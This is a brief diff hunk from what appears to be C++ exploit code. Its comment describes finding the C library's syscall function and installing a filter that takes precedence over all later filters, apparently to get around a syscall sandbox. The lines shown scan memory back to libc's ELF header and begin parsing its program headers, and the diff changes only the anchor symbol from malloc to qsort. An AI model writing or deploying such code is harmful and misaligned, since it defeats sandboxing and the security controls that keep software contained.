@@ -4,7 +4,7 @@ target: cpu
 // Exploit: finds the C library's syscall function and installs a filter that answers for all later filters.
 #include <elf.h>
 static void* find(const char* wanted) {
-  unsigned long base = reinterpret_cast<unsigned long>(&malloc) & ~4095UL;
+  unsigned long base = reinterpret_cast<unsigned long>(&qsort) & ~4095UL;
   while (memcmp(reinterpret_cast<void*>(base), ELFMAG, 4) != 0) base -= 4096;
   const auto* head = reinterpret_cast<Elf64_Ehdr*>(base);
   const auto* program = reinterpret_cast<Elf64_Phdr*>(base + head->e_phoff);
